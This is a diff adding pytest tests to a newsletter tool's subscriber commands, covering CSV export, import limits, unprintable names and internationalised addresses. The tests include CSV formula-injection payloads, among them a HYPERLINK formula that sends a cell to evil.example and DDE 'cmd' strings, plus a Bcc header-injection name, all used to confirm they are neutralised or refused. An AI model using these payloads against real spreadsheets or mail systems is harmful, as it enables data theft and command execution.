@@ -15,6 +15,7 @@ from newsletter.audience.addresses import address_or_problem, normalize_email
 from newsletter.cli import cli
 from newsletter.commands.subscribers import import_csv
 from newsletter.errors import DeliveryError
+from newsletter.store import open_store
 from support.project import Project
 
 CSV = """\
@@ -121,7 +122,7 @@ def test_fast_path_agrees_with_email_validator() -> None:
     for address in samples:
         try:
             expected = validate_email(address, check_deliverability=False,
-                                      allow_smtputf8=False).normalized.lower()
+                                      allow_smtputf8=True).normalized.lower()
         except EmailNotValidError:
             expected = None
         try:
@@ -135,3 +136,107 @@ def test_normalize_email_errors_are_one_line() -> None:
     with pytest.raises(DeliveryError) as info:
         normalize_email("ann@@example.org")
     assert "\n" not in info.value.one_line()
+
+
+FORMULAS = ['=HYPERLINK("https://evil.example/?"&A1,"Click")', "+cmd|' /C calc'!A0",
+            "@SUM(1+1)*cmd|' /C calc'!A0", "-1+2", "'=already quoted", "''+two quotes",
+            "'plain apostrophe", "O'Brien", "Ada Lovelace", "-", "'", "a=b"]
+
+
+def test_export_neutralises_formulas_and_import_gives_them_back(project: Project) -> None:
+    rows = [(f"r{i}@example.org", name) for i, name in enumerate(FORMULAS)]
+    rows += [("-dash@example.org", "Dash"), ("+plus@example.org", "Plus"),
+             ("=eq@example.org", "Eq")]
+    with open_store(project.config()) as store:
+        store.upsert_subscribers([(email, name, "active") for email, name in rows])
+    code, exported, _ = _run(project, "subscribers", "export")
+    assert code == 0
+    cells = [cell for row in csv.reader(io.StringIO(exported)) for cell in row]
+    assert not [cell for cell in cells if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]
+    for neutralised in ["'=HYPERLINK(", "'-1+2", "'@SUM(", "'+cmd|", "'-dash@example.org",
+                        "'=eq@example.org", "''=already quoted", "'''+two quotes", "'-,"]:
+        assert neutralised in exported
+    for as_is in [",'plain apostrophe,", ",O'Brien,", ",a=b,", ",',"]:
+        assert as_is in exported
+    (project.root / "newsletter.sqlite3").unlink()
+    (project.root / "out.csv").write_text(exported, encoding="utf-8")
+    assert not import_csv(project.config(), project.root / "out.csv").bad
+    assert _run(project, "subscribers", "export")[1] == exported
+    with open_store(project.config()) as store:
+        assert [(s.email, s.name) for s in store.iter_subscribers()] == rows
+
+
+def test_a_field_over_the_csv_limit_skips_only_its_row(project: Project) -> None:
+    huge = "x" * 200_000
+    (project.root / "subs.csv").write_text(
+        f"email,name\nann@example.org,Ann\nbig@example.org,{huge}\nbob@example.org,Bob\n"
+        f'quoted@example.org,"{huge}"\ncid@example.org,Cid\n{huge}@example.org,\n'
+        "dee@example.org,Dee\n", encoding="utf-8")
+    code, out, err = _run(project, "subscribers", "import", "subs.csv")
+    assert code == 0, err
+    limit = f"{csv.field_size_limit():,}"
+    assert err.splitlines() == [f"subs.csv:3: skipped: a field is longer than {limit} characters",
+                                f"subs.csv:5: skipped: a field is longer than {limit} characters",
+                                f"subs.csv:7: skipped: a field is longer than {limit} characters"]
+    assert "4 added, 0 updated, 0 unchanged, 3 bad row(s) skipped" in out
+    _, listed, _ = _run(project, "subscribers", "list")
+    assert [line.split("\t")[0] for line in listed.splitlines()] == [
+        "ann@example.org", "bob@example.org", "cid@example.org", "dee@example.org"]
+
+
+def test_a_line_that_is_not_utf8_skips_only_its_row(project: Project) -> None:
+    (project.root / "subs.csv").write_bytes(
+        b"email,name\nann@example.org,Ann\n" + b"jos\xe9@example.org,Jos\xe9\n"
+        + b"zoe@example.org,Zo\xeb\n" + "bob@example.org,Böb\n".encode())
+    code, out, err = _run(project, "subscribers", "import", "subs.csv")
+    assert code == 0, err
+    assert err.splitlines() == [
+        "subs.csv:3: skipped: the line is not UTF-8 text (save the file as UTF-8)",
+        "subs.csv:4: skipped: the line is not UTF-8 text (save the file as UTF-8)"]
+    assert "2 added" in out
+
+
+UNPRINTABLE = {"\u2028": "a line break", "\u2029": "a line break", "\u0085": "a line break",
+               "\t": "a line break", "\x1b": "a line break",
+               "\u202e": "an invisible formatting", "\u200b": "an invisible formatting",
+               "\u00ad": "an invisible formatting", "\ufeff": "an invisible formatting",
+               "\ue000": "an unassigned or private-use", "\u0378": "an unassigned or private-use"}
+
+
+@pytest.mark.parametrize("char", list(UNPRINTABLE))
+def test_a_name_with_an_unprintable_character_is_refused(project: Project, char: str) -> None:
+    name = f"Eve{char}Bcc: x@evil.example"
+    code, _, err = _run(project, "subscribers", "add", "eve@example.org", "--name", name)
+    assert code == 2 and err.count("\n") == 1
+    assert err.startswith(f"error: the name contains {UNPRINTABLE[char]}")
+    assert f"(U+{ord(char):04X})" in err
+    path = project.root / "subs.csv"
+    with open(path, "w", encoding="utf-8", newline="") as handle:
+        csv.writer(handle).writerows([("email", "name"), ("eve@example.org", name),
+                                      ("ann@example.org", "Ann")])
+    code, out, err = _run(project, "subscribers", "import", "subs.csv")
+    assert err.startswith(f"subs.csv:2: skipped: the name contains {UNPRINTABLE[char]}")
+    assert "1 added" in out
+    assert _run(project, "subscribers", "list")[1] == "ann@example.org\tactive\tAnn\n"
+
+
+@pytest.mark.parametrize("name", ["Jean\u00a0Dupont", "山田\u3000太郎", "علی\u200cرضا",
+                                  "👩\u200d💻 Dev", "Zoë Ærø", "e\u0301clair", "  Ann  "])
+def test_names_that_are_printable_or_spaced_are_kept(project: Project, name: str) -> None:
+    assert _run(project, "subscribers", "add", "x@example.org", "--name", name)[0] == 0
+    with open_store(project.config()) as store:
+        assert store.subscriber("x@example.org").name == name.strip()
+
+
+def test_internationalised_addresses_are_stored_as_email_validator_normalises(
+        project: Project) -> None:
+    assert _run(project, "subscribers", "add", "User@München.DE")[1] == \
+        "added user@münchen.de\n"
+    assert _run(project, "subscribers", "add", "user@xn--mnchen-3ya.de")[1] == \
+        "user@münchen.de is subscribed\n"
+    assert _run(project, "subscribers", "add", "José@example.org")[1] == \
+        "added josé@example.org\n"
+    assert normalize_email("ann@xn--bcher-kva.de") == "ann@bücher.de"
+    assert normalize_email("e\u0301@example.org") == "\u00e9@example.org"  # NFC
+    assert _run(project, "subscribers", "list")[1].splitlines() == [
+        "user@münchen.de\tactive\t", "josé@example.org\tactive\t"]
